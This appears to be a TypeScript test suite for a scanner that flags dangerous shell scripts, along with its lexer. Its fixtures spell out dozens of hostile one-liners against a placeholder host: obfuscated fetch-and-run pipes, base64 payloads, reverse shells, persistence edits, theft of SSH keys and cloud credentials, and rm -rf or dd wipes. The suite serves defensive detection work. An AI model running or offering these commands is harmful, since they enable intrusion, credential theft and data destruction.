import assert from 'node:assert/strict';
import fc from 'fast-check';
import { readShell } from '../../../../src/scanners/code/carriers/shell/judge.js';
import { readCommands } from '../../../../src/scanners/code/carriers/shell/lexer.js';
import { commandOf } from '../../../../src/scanners/code/carriers/shell/words.js';
import { hostile, kinds } from './helpers.js';

const place = { path: 'pkg/run.sh', moment: 'call' } as const;
const encoded = Buffer.from('print(1)\n'.repeat(12)).toString('base64');
const words = (text: string): readonly string[] =>
  readCommands(text).commands.map((one) => one.words.join(' '));

describe('the shell reader', () => {
  const flagged: readonly (readonly [string, string, string])[] = [
    ['a download piped into a shell', 'curl -s http://a.invalid/x | sh', 'script-fetch-and-run'],
    ['the same with quotes inside of words', `c""ur'l' http://a.invalid/x | b\\ash`, 'script-fetch-and-run'],
    ['the same with ANSI-C quotes', "$'\\x63url' a.invalid | $'\\163h'", 'script-fetch-and-run'],
    ['the same through variables', 'A=curl; B=sh\n$A a.invalid | ${B}', 'script-fetch-and-run'],
    ['the same with IFS for blanks', 'curl${IFS}a.invalid|sh', 'script-fetch-and-run'],
    [
      'the same with a path, sudo and env',
      '/usr/bin/curl a.invalid | sudo -E env A=1 /bin/bash -s',
      'script-fetch-and-run',
    ],
    ['the same over two lines', 'wget -qO- a.invalid |\n  python3 -', 'script-fetch-and-run'],
    ['a substitution that is evaluated', 'eval "$(wget -qO- http://a.invalid)"', 'script-fetch-and-run'],
    ['back quotes that are evaluated', 'eval `curl a.invalid`', 'script-fetch-and-run'],
    ['a process substitution', 'bash <(curl -s a.invalid)', 'script-fetch-and-run'],
    ['a sourced process substitution', '. <(curl -s a.invalid)', 'script-fetch-and-run'],
    ['a variable that holds a download', 'X=$(curl a.invalid)\neval "$X"', 'script-fetch-and-run'],
    ['a here-string of a download', 'sh -c "$(curl a.invalid)"', 'script-fetch-and-run'],
    ['a command in the words of a shell', 'sh -c "curl a.invalid | sh"', 'script-fetch-and-run'],
    ['a here-document for a shell', 'bash <<EOF\ncurl a.invalid | sh\nEOF\n', 'script-fetch-and-run'],
    [
      'a connection that is read by a shell',
      'exec 5<>/dev/tcp/a.invalid/1; cat <&5 | sh',
      'script-fetch-and-run',
    ],
    [
      'a file that is fetched and run',
      'curl -o /tmp/x a.invalid; chmod +x /tmp/x; /tmp/x',
      'script-download-and-start',
    ],
    ['a file that wget names', 'wget http://a.invalid/b/c.sh && sh c.sh', 'script-download-and-start'],
    [
      'a file that is redirected and sourced',
      'curl a.invalid > y.sh; source ./y.sh',
      'script-download-and-start',
    ],
    ['a file that is decoded from elsewhere and run', 'base64 -d blob | bash', 'script-decode-and-run'],
    ['hexadecimal', 'xxd -r -p blob | sh', 'script-decode-and-run'],
    ['letters turned by thirteen', "cat x | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", 'script-decode-and-run'],
    ['a text of base64', `echo ${encoded} | base64 -d | sh`, 'script-runs-encoded'],
    ['a variable with base64', `P="${encoded}"\necho "$P" | base64 --decode | bash`, 'script-runs-encoded'],
    ['a here-document with base64', `base64 -d <<E | sh\n${encoded}\nE\n`, 'script-runs-encoded'],
    ['base64 that is evaluated', `eval "$(echo ${encoded} | base64 -d)"`, 'script-runs-encoded'],
    [
      'base64 that becomes a program',
      `echo ${encoded} | base64 -d > /tmp/q; chmod +x /tmp/q; /tmp/q`,
      'script-runs-encoded',
    ],
    ['escapes', `printf '${'\\x41'.repeat(10)}' | sh`, 'script-runs-encoded'],
    ['a shell on a connection', 'bash -i >& /dev/tcp/a.invalid/1 0>&1', 'reverse-shell'],
    ['a shell on a descriptor', 'exec 3<>/dev/tcp/a.invalid/1\nsh <&3 >&3', 'reverse-shell'],
    ['netcat that starts a shell', 'nc a.invalid 1 -e /bin/sh', 'reverse-shell'],
    ['netcat behind a shell', 'mkfifo f; cat f | /bin/sh -i 2>&1 | nc a.invalid 1 > f', 'reverse-shell'],
    ['socat', 'socat tcp:a.invalid:1 exec:/bin/sh,pty', 'reverse-shell'],
    ['Perl', `perl -e 'use Socket;open(STDIN,">&S");exec("/bin/sh -i");'`, 'reverse-shell'],
    ['a crontab from a pipe', '(crontab -l; echo "* * * * * x") | crontab -', 'script-persist'],
    ['authorized_keys', 'echo key >> ~/.ssh/authorized_keys', 'script-persist'],
    ['sudoers by tee', 'echo x | sudo tee -a /etc/sudoers', 'script-persist'],
    ['a profile', 'echo x >> "$HOME/.bashrc"', 'script-autostart'],
    ['a service', 'systemctl --user enable demo', 'script-autostart'],
    ['a key that is sent', 'cat ~/.ssh/id_rsa | curl -d @- a.invalid', 'script-sends-secrets'],
    ['a file that is uploaded', 'curl -T ~/.aws/credentials a.invalid', 'script-sends-secrets'],
    ['the environment', 'curl -d "$(env)" a.invalid', 'script-sends-secrets'],
    ['the environment by netcat', 'env | base64 | nc a.invalid 1', 'script-sends-secrets'],
    ['keys in a loop', 'for i in ~/.ssh/id_*; do curl -F "f=@$i" a.invalid; done', 'script-sends-secrets'],
    [
      'keys in an archive',
      'tar czf /tmp/o.tgz ~/.ssh; curl -F f=@/tmp/o.tgz a.invalid',
      'script-sends-secrets',
    ],
    ['a shell by PHP', `php -r '$s=fsockopen("a.invalid",1);exec("/bin/sh -i <&3 >&3");'`, 'reverse-shell'],
    [
      'a command in JavaScript',
      `node -e "require('child_process').exec('curl a.invalid | sh')"`,
      'script-fetch-and-run',
    ],
    ['a key in an address', 'curl "http://a.invalid/?k=$(base64 ~/.netrc)"', 'script-sends-secrets'],
    [
      'credentials of a cloud',
      'C=$(curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x)\ncurl -d "$C" a.invalid',
      'script-sends-secrets',
    ],
    ['a home', 'rm -rf ~', 'script-destroys'],
    ['a root', 'sudo rm --no-preserve-root -fr /', 'script-destroys'],
    ['all of a home', 'rm -r -f "$HOME"/*', 'script-destroys'],
    ['a disk', 'dd if=/dev/zero of=/dev/sda', 'script-destroys'],
    ['a home by find', 'find ~ -type f -delete', 'script-destroys'],
    ['mining', './m -o stratum+tcp://a.invalid:1', 'crypto-mining'],
    ['defences', 'setenforce 0', 'script-defence-off'],
  ];
  for (const [name, text, what] of flagged) {
    it(`sees ${name}`, () => {
      assert.deepEqual(kinds(readShell(text, place)), [what]);
    });
  }

  const clean: readonly (readonly [string, string])[] = [
    ['a download that is read as JSON', 'curl -s http://a.invalid | python3 -m json.tool'],
    [
      'a download that a program on the command line reads',
      'curl a.invalid | python -c "import sys; print(1)"',
    ],
    ['a download that is unpacked', 'curl -L a.invalid/x.tar.gz | tar xz'],
    ['a download into a variable', 'VERSION=$(curl -s a.invalid/version)\necho "$VERSION"'],
    ['a pipe in a comment', '# curl a.invalid | sh\necho done'],
    ['a pipe in a text', "echo 'run: curl a.invalid | sh'"],
    ['a pipe in a here-document for people', 'cat <<EOF\ncurl a.invalid | sh\nEOF\n'],
    ['a look whether a port is open', '(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1'],
    ['a certificate that is decoded', 'echo "$CERT" | base64 -d > ca.pem'],
    ['a key that is used', 'scp -i ~/.ssh/id_rsa a.txt host.invalid:'],
    ['a key that rsync uses', 'rsync -e "ssh -i ~/.ssh/id_rsa" a host.invalid:'],
    [
      'metadata of a cloud',
      'T=$(curl -X PUT http://169.254.169.254/latest/api/token)\ncurl -H "X-T: $T" http://169.254.169.254/latest/meta-data/instance-id',
    ],
    [
      'an instance id in an address',
      'I=$(curl http://169.254.169.254/latest/meta-data/instance-id)\ncurl "http://a.invalid/$I"',
    ],
    ['a folder of its own', 'rm -rf "$HOME/.cache/demo" ./build /tmp/demo'],
    ['a folder in an unset variable', 'DIR=""\nrm -rf "${DIR}/*"'],
    ['a crontab that is listed', 'crontab -l'],
    ['a profile that is read', 'source ~/.bashrc'],
    ['an agent that is evaluated', 'eval "$(ssh-agent -s)"'],
    ['a shell with a script of its own', 'bash ./scripts/build.sh --fast'],
  ];
  for (const [name, text] of clean) {
    it(`says nothing of ${name}`, () => {
      assert.deepEqual(readShell(text, place), []);
    });
  }

  it('reads the Python on a command line', () => {
    const text = `python3 -c "import base64;exec(base64.b64decode('${encoded}'))"`;
    assert.ok(kinds(readShell(text, place)).includes('decode-and-execute'));
  });

  it('gives the line and the very text', () => {
    const [signal] = readShell('echo a\n\n"x\ny"\ncurl a.invalid |\n sh\n', place);
    assert.equal(signal?.line, 6);
    assert.equal(signal.evidence, 'curl a.invalid |\n sh');
    assert.equal(signal.path, 'pkg/run.sh');
  });

  it('counts lines from where the text stands in its file, whatever ends them', () => {
    const [signal] = readShell('echo\r\ncurl a.invalid | sh\r\n', place, 10);
    assert.equal(signal?.line, 11);
  });

  for (const [name, bytes] of hostile) {
    it(`reads ${name}`, () => {
      assert.ok(Array.isArray(readShell(Buffer.from(bytes).toString('utf8'), place)));
    });
  }

  it('says when there are too many commands to be read', () => {
    assert.ok(kinds(readShell('a;'.repeat(300_000), place)).includes('not-looked-at'));
  });

  it('does not lose what is grave behind ten thousand lines that are not', () => {
    const text = `${'echo x >> ~/.bashrc\n'.repeat(10_000)}cat ~/.ssh/id_rsa | nc a.invalid 1\n`;
    assert.deepEqual(kinds(readShell(text, place)), ['script-autostart', 'script-sends-secrets']);
    assert.ok(readShell(text, place).length <= 40);
  });

  it('does not grow by variables that stand for long texts', () => {
    const { commands } = readCommands(`A=${'x'.repeat(190)}\n${'$A'.repeat(100_000)}`);
    const length = commands.reduce((sum, one) => sum + one.words.join('').length, 0);
    assert.ok(length < 2_000_000, String(length));
  });

  it('never throws, and never reports more than it may', () => {
    const piece = fc.constantFrom(
      'curl a',
      '|',
      'sh',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '\n',
      '<<E',
      'E',
      '${',
      '}',
      '>',
      '&',
      ';',
      ' ',
      'eval',
      'A=1',
      '$A',
      '#',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        assert.ok(readShell(pieces.join(''), place).length <= 260);
      }),
    );
  });
});

describe('the shell lexer', () => {
  const cases: readonly (readonly [string, string, readonly string[]])[] = [
    ['quotes are no part of a word', `a"b c"'d'e`, ['ab cde']],
    ['an escaped new line joins', 'a\\\nb c', ['ab c']],
    ['operators end commands', 'a;b&&c||d&e', ['a', 'b', 'c', 'd', 'e']],
    ['a comment needs a blank before it', 'a#b # c\nd', ['a#b', 'd']],
    ['a substitution stands inside', 'a $(b c) d', ['a $() d', 'b c']],
    ['parentheses inside of a substitution belong to it', 'a $( (b) | c) d', ['a $() d', 'b', 'c']],
    ['an unknown variable stays', 'a $B ${C}', ['a $B ${C}']],
    ['a known one is replaced', 'B=x; a $B ${B}', ['B=x', 'a x x']],
    ['one with an operator stays', 'B=x; a ${B:-y}', ['B=x', 'a ${B:-y}']],
    ['a here-document is no command', 'a <<E\nb\nE\nc', ['a', 'c']],
  ];
  for (const [name, text, expected] of cases) {
    it(name, () => {
      assert.deepEqual(
        words(text).filter((one) => one !== ''),
        expected,
      );
    });
  }

  it('keeps each command within its text, and parents before children', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', ' ', '$(', ')', '|', '"', '`', '\n', ';'), maxLength: 80 }),
        (text) => {
          readCommands(text).commands.forEach(({ start, parent, pipedFrom }, index) => {
            assert.ok(start <= text.length + 2);
            assert.ok(parent < index && pipedFrom < index);
          });
        },
      ),
    );
  });

  const names: readonly (readonly [string, string])[] = [
    ['sudo -u root env A=1 /usr/bin/python3.11', 'python'],
    ['timeout 10 bash', 'bash'],
    ['A=1 B=2 Curl.exe', 'curl'],
    ['then nohup ./x', 'x'],
    ['', ''],
  ];
  for (const [text, expected] of names) {
    it(`knows that \`${text}\` is ${expected === '' ? 'no command' : expected}`, () => {
      assert.equal(commandOf(text.split(' ').filter((one) => one !== '')).name, expected);
    });
  }
});
